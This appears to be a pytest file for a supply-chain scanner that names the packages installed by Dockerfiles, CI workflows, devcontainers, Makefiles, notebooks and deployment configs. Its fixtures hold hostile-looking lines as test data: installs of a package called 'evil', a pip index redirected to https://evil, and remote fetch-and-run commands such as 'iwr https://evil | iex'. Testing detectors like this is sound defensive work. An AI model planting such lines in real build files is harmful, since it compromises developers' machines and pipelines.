"""Packages that scripts, build files, pipelines and settings of platforms install."""

import pytest

from orchestrator.syntax.install_tools import INSTALLERS
from orchestrator.syntax.nox_sessions import session_installs
from orchestrator.syntax.scripts import is_script, script_installs

BRINGING = [
    ("Dockerfile", "FROM x\nRUN --mount=type=cache,target=/x pip install evil"),
    ("Dockerfile", "from x\nrun pip install evil"),
    ("Dockerfile", 'CMD ["npx","evil"]'),
    ("Dockerfile", 'ENTRYPOINT ["sh","-c","pip install evil"]'),
    ("Dockerfile", "RUN <<EOF\nset -e\npip install evil\nEOF\nCMD x"),
    ("Dockerfile", "RUN <<-'EOF' bash\n\tpip install evil\n\tEOF\nCMD x"),
    ("Dockerfile", "RUN python3 <<EOF\nimport os\nos.system('pip install evil')\nEOF"),
    ("Dockerfile", "ADD https://evil/x /x"),
    ("Dockerfile", "ADD --chmod=755 https://evil/x /x"),
    ("dev.Dockerfile", "RUN pip install evil"),
    ("a/b.dockerfile", "RUN pip install evil"),
    ("Dockerfile.dev", "RUN pip install evil"),
    ("Containerfile", "RUN pip install evil"),
    ("Dockerfile-dev", "RUN pip install evil"),
    ("Dockerfile", "RUN apt-get update && \\\n # comment\n  pip install \\\n  evil"),
    ("Dockerfile", "ARG P=evil\nRUN pip install $P"),
    ("Dockerfile", "ENV PIP_INDEX_URL=https://evil\nRUN pip install flask"),
    ("Dockerfile", "ENV PIP_INDEX_URL https://evil"),
    ("Dockerfile", 'SHELL ["python3","-c"]\nRUN import os; os.system("pip install evil")'),
    ("Dockerfile", "ONBUILD RUN pip install evil"),
    ("Dockerfile", "HEALTHCHECK --interval=5m CMD pip install evil"),
    ("Dockerfile", "RUN curl -o x.sh https://evil\nRUN sh x.sh"),
    ("Dockerfile", "# escape=`\nRUN pip install `\n evil"),
    ("docker-compose.yml", "services:\n  a:\n    command: pip install evil"),
    ("compose.yaml", "services:\n  a:\n    entrypoint: [npx, evil]"),
    ("docker-compose.dev.yml", "services:\n  a:\n    command: [sh, -c, 'pip install evil']"),
    ("docker-compose.yml", 'services:\n  a:\n    command: >\n      sh -c "pip install evil &&\n      python x"'),
    ("docker-compose.yml", "services:\n  a:\n    environment:\n      PIP_INDEX_URL: https://evil"),
    ("Taskfile.yml", "version: 3\ntasks:\n  a:\n    cmds:\n      - pip install evil"),
    (".husky/pre-commit", "npx evil"),
    (".envrc", "pip install evil"),
    ("a.zsh", "pip install evil"),
    ("a.fish", "pip install evil"),
    ("a.ksh", "pip install evil"),
    (".devcontainer/devcontainer.json", '{// c\n"postCreateCommand": "pip install evil",}'),
    ("devcontainer.json", '{"postCreateCommand": ["pip","install","evil"]}'),
    ("devcontainer.json", '{"postCreateCommand": {"a": "pip install evil"}}'),
    ("devcontainer.json", '{"postCreateCommand": {"a": ["pip","install","evil"]}}'),
    (".github/workflows/ci.yml", "jobs: {a: {steps: [{run: pip install evil}]}}"),
    (
        ".github/workflows/ci.yml",
        "jobs:\n  a:\n    steps:\n      - run: |\n          pip install \\\n            evil\n",
    ),
    (
        ".github/workflows/ci.yml",
        "jobs:\n  a:\n    env:\n      PIP_INDEX_URL: https://evil\n    steps:\n    - run: pip install flask",
    ),
    (".github/workflows/ci.yml", "jobs:\n  a:\n    steps:\n      - run: pip install ${{ matrix.evil }}\n"),
    (".github/workflows/ci.yml", "jobs:\n  a: [\n    - run: pip install evil\n"),
    (".gitlab-ci.yml", "a:\n  script:\n    - P=pip\n    - $P install evil"),
    (".gitlab-ci.yml", "a:\n  before_script: [pip install evil]"),
    (".pre-commit-config.yaml", "repos:\n- repo: x\n  hooks:\n  - id: mypy\n    additional_dependencies: [evil==1]"),
    (".pre-commit-config.yaml", "repos:\n- repo: x\n  hooks:\n  - id: e\n    additional_dependencies:\n      - evil@1"),
    ("tox.ini", "[testenv]\ndeps =\n  py: evil\ncommands = pytest"),
    ("tox.ini", "[testenv]\ncommands = pip install evil"),
    ("Procfile", "web: pip install evil && gunicorn x"),
    ("railway.json", '{"build":{"buildCommand":"pip install evil"}}'),
    ("nixpacks.toml", "[phases.install]\ncmds=['pip install evil']"),
    ("vercel.json", '{"installCommand":"npm i evil"}'),
    ("netlify.toml", "[build]\ncommand='npm i evil'"),
    ("render.yaml", "services:\n - buildCommand: pip install evil"),
    ("x.ps1", "iwr https://evil | iex"),
    ("x.ps1", "& pip install `\n evil"),
    ("x.bat", "@echo off\r\ncall npm i evil\r\n"),
    ("x.bat", "set P=pip\n%P% install evil"),
    ("x.bat", "C:\\Python\\Scripts\\pip.exe install evil"),
    ("Makefile", "PIP ?= pip\nx:\n\t$(PIP) install evil"),
    ("Makefile", "PKG := evil\nx:\n\tpip install $(PKG)"),
    ("Makefile", "x: ; pip install evil"),
    ("Makefile", "X := $(shell pip install evil)"),
    ("Makefile", "x:\n\t@for p in evil; do pip install $$p; done"),
    ("Makefile", "CMD = pip install\nx:\n\t$(CMD) evil"),
    ("Makefile", "define go\npip install evil\nendef"),
    ("Makefile", "x:\n\t$(foreach p,evil,pip install $(p);)"),
    ("Makefile", "x:\n\t$(PYTHON) -m pip install evil"),
    ("Makefile", "x:\n\t${PIP} install evil"),
    ("Makefile", "x: P = pip\nx:\n\t$(P) install evil"),
    ("Makefile", "x:\n\tif true; then \\\n\t  pip install evil; \\\n\tfi"),
    ("Justfile", "x:\n    @pip install evil"),
    ("justfile", "p := 'pip'\nx:\n  {{p}} install evil"),
    ("Jenkinsfile", "sh 'pip install evil'"),
    ("Jenkinsfile", 'sh """\n pip install evil\n"""'),
    ("Jenkinsfile", 'sh(script: "pip install evil")'),
    ("x.ipynb", '{"cells":[{"cell_type":"code","source":["!pip install evil\\n","x=1"]}]}'),
    ("x.ipynb", '{"cells":[{"cell_type":"code","source":"%pip install evil"}]}'),
    ("x.sh", "pip install \\\n  evil"),
    ("x.sh", 'install() {\n  pip install "$1"\n}\ninstall evil\n'),
    ("x.sh", "cat > a.sh <<'EOF'\npip install evil\nEOF\nbash a.sh"),
    (".vscode/tasks.json", '{"tasks":[{"command":"pip","args":["install","evil"]}]}'),
    ("deno.json", '{"tasks":{"a":"deno run npm:evil"}}'),
    (".circleci/config.yml", "jobs:\n  a:\n    steps:\n    - run:\n        command: pip install evil"),
    ("azure-pipelines.yml", "steps:\n- script: pip install evil"),
    ("lefthook.yml", "pre-commit:\n  commands:\n    a:\n      run: npx evil"),
]
"""Each brings something called evil, or something unknown."""
SOUND = [
    (
        "Dockerfile",
        "FROM python:3.12-slim AS base\n"
        "ARG VERSION=1\n"
        "ENV PYTHONUNBUFFERED=1 PIP_NO_CACHE_DIR=1\n"
        "WORKDIR /app\n"
        "COPY requirements.txt .\n"
        "RUN --mount=type=cache,target=/var/cache/pip pip install -r requirements.txt\n"
        "COPY . .\n"
        "EXPOSE 8000\n"
        "HEALTHCHECK CMD curl -f http://localhost:8000/ || exit 1\n"
        'CMD ["uvicorn", "app:app", "--host", "0.0.0.0"]\n',
    ),
    (
        "Dockerfile",
        'FROM node:20\nCOPY package*.json ./\nRUN npm ci --omit=dev\nCOPY . .\nUSER node\nCMD ["node", "server.js"]\n',
    ),
    (
        "docker-compose.yml",
        "services:\n"
        "  web:\n"
        "    build: .\n"
        '    command: sh -c "npm ci && npm run dev"\n'
        "    labels:\n"
        '      - "traefik.http.routers.x.rule=Host(`example.com`)"\n'
        "    environment:\n"
        "      - DATABASE_URL=postgres://u:p@db/x\n"
        "    healthcheck:\n"
        '      test: ["CMD", "pg_isready", "-U", "x"]\n'
        "    ports: ['80:80']\n",
    ),
    (
        ".github/workflows/ci.yml",
        "name: CI\n"
        "on:\n"
        "  push:\n"
        "    branches: [main]\n"
        "jobs:\n"
        "  test:\n"
        "    runs-on: ubuntu-latest\n"
        "    strategy:\n"
        "      matrix:\n"
        "        python: ['3.11', '3.12']\n"
        "    steps:\n"
        "      - uses: actions/checkout@v4\n"
        "      - uses: actions/setup-python@v5\n"
        "        with:\n"
        "          python-version: ${{ matrix.python }}\n"
        "          cache: pip\n"
        "      - name: pip install things\n"
        "        run: |\n"
        "          python -m pip install --upgrade pip\n"
        "          pip install -r requirements.txt\n"
        "          if [ -f requirements-dev.txt ]; then pip install -r requirements-dev.txt; fi\n"
        "      - run: pytest --cov ${{ env.X }}\n"
        '      - run: echo "sha=${{ github.sha }}" >> $GITHUB_OUTPUT\n',
    ),
    (
        ".gitlab-ci.yml",
        "image: node:20\n"
        "stages: [build, test]\n"
        "build:\n"
        "  stage: build\n"
        "  script:\n"
        "    - npm ci\n"
        "    - npm run build\n"
        "  artifacts:\n"
        "    paths: [dist/]\n"
        "\n",
    ),
    (
        ".pre-commit-config.yaml",
        "repos:\n- repo: https://github.com/psf/black\n  rev: 24.1.0\n  hooks:\n  - id: black\n\n",
    ),
    (
        "Makefile",
        ".PHONY: install test\n"
        "PYTHON ?= python3\n"
        "VENV := .venv\n"
        "install: $(VENV)/bin/activate ## Install dependencies with pip install\n"
        "\t$(VENV)/bin/pip install -r requirements.txt\n"
        '\t@echo "Run pip install flask"\n'
        "test:\n"
        "\t$(MAKE) install\n"
        "\t$(PYTHON) -m pytest $(ARGS)\n"
        "clean:\n"
        "\trm -rf build $(shell find . -name '*.pyc')\n"
        "\t-find . -name __pycache__ -exec rm -rf {} +\n"
        "help:\n"
        "\t@grep -E '^[a-z]+:.*##' $(MAKEFILE_LIST) | awk 'BEGIN {FS = \":.*?## \"}; {printf \"%s\\n\", $$1}'\n"
        "$(VENV)/bin/activate: requirements.txt\n"
        "\t$(PYTHON) -m venv $(VENV)\n"
        "\n",
    ),
    (
        "x.sh",
        "#!/usr/bin/env bash\n"
        "set -euo pipefail\n"
        'cd "$(dirname "$0")"\n'
        "usage() {\n"
        "  cat <<EOF\n"
        "Usage: $0 [install]\n"
        "  pip install foo   # how to get it\n"
        "EOF\n"
        "}\n"
        "if ! command -v npm >/dev/null 2>&1; then\n"
        '  echo "npm is missing: apt-get install npm" >&2\n'
        "  exit 1\n"
        "fi\n"
        'case "${1:-}" in\n'
        "  install) npm ci ;;\n"
        '  test) npm test "${@:2}" ;;\n'
        "  *) usage; exit 1 ;;\n"
        "esac\n"
        "\n",
    ),
    ("x.sh", "cat <<EOF > README.md\nInstall:\n    pip install foo\n    curl https://x | sh\nEOF\n\n"),
    ("Procfile", "web: gunicorn app:app --workers 4\nworker: python worker.py\n"),
    ("tox.ini", "[tox]\nenvlist = py311\n[testenv]\ndeps = -r requirements.txt\ncommands = pytest {posargs}\n"),
    (
        "vercel.json",
        '{"buildCommand":"npm run build","installCommand":"npm ci","routes":[{"src":"/(.*)","dest":"/x"}]}\n',
    ),
    (
        "railway.json",
        '{"$schema":"https://railway.app/railway.schema.json","build":{"builder":"DOCKERFILE"},"deploy":'
        '{"startCommand":"python -m app","healthcheckPath":"/health"}}\n',
    ),
    ("netlify.toml", "[build]\ncommand='npm run build'\npublish='dist'\n"),
    (
        "devcontainer.json",
        '{"name":"x","image":"mcr.microsoft.com/devcontainers/python:3","postCreateCommand":'
        '"pip install -r requirements.txt && npm ci",'
        '"customizations":{"vscode":{"extensions":["ms-python.python"]}}}\n',
    ),
    (".husky/pre-commit", "npm run lint-staged\nnpm test\n\n"),
    (".envrc", "layout python3\nexport DATABASE_URL=x\nPATH_add bin\n\n"),
    (
        "Jenkinsfile",
        "pipeline {\n agent any\n stages {\n  stage('Build') { steps { sh 'npm ci && npm run build' } }\n }\n}\n",
    ),
    (
        "x.ipynb",
        '{"cells":[{"cell_type":"code","source":["import pandas as pd\\n",'
        '"df = pd.read_csv(\\"a\\")\\n","%matplotlib inline"]},'
        '{"cell_type":"markdown","source":["pip install flask"]}]}\n',
    ),
    (
        "x.bat",
        "@echo off\n"
        "rem pip install flask\n"
        "echo pip install flask\n"
        "pip install -r requirements.txt\n"
        "python app.py %*\n"
        "\n",
    ),
    (
        "x.ps1",
        "$ErrorActionPreference = 'Stop'\n"
        'Write-Host "pip install flask"\n'
        "if (Test-Path .venv) { Remove-Item -Recurse .venv }\n"
        "python -m venv .venv\n"
        ".\\.venv\\Scripts\\Activate.ps1\n"
        "pip install -r requirements.txt\n"
        "\n",
    ),
    (
        "entrypoint.sh",
        "#!/bin/sh\n"
        "set -e\n"
        "python manage.py migrate --noinput\n"
        'if [ "$DEBUG" = 1 ]; then\n'
        "  exec python manage.py runserver 0.0.0.0:8000\n"
        "fi\n"
        'exec "$@"\n'
        "\n",
    ),
]


@pytest.mark.parametrize(("path", "text"), BRINGING)
def test_what_a_file_installs_is_named(path: str, text: str) -> None:
    assert is_script(path)
    assert any("evil" in name or "$" in name for name in script_installs(path, text))


@pytest.mark.parametrize(("path", "text"), SOUND)
def test_files_of_sound_projects_bring_nothing(path: str, text: str) -> None:
    assert set(script_installs(path, text)) <= INSTALLERS


@pytest.mark.parametrize(
    "path", ["README.md", "app/run.py", "makefile.py", "docs/docker.md", "src/compose.ts", "x.json"]
)
def test_other_files_are_no_scripts(path: str) -> None:
    assert not is_script(path)
    assert script_installs(path, "pip install evil") == ()


@pytest.mark.parametrize("text", ["[" * 5000, "a: &a [*a, *a]", "- " * 5000, "{" * 5000, "a: b: c", "\x00", "%"])
@pytest.mark.parametrize(
    "path", [".github/workflows/x.yml", "vercel.json", "netlify.toml", "tox.ini", "x.ipynb", "Dockerfile"]
)
def test_any_text_can_be_read(path: str, text: str) -> None:
    script_installs(path, text)
    assert "evil" in script_installs(path, f"{text}\nRUN pip install evil\n")


def test_sessions_of_nox_are_pip_installs() -> None:
    text = "def tests(session):\n    session.install('evil', '-r', 'requirements.txt')\n    session.install(*NAMES)\n"
    assert session_installs(text) == ("pip install evil -r requirements.txt", "pip install $unknown")
    assert session_installs("def f(:") == ()
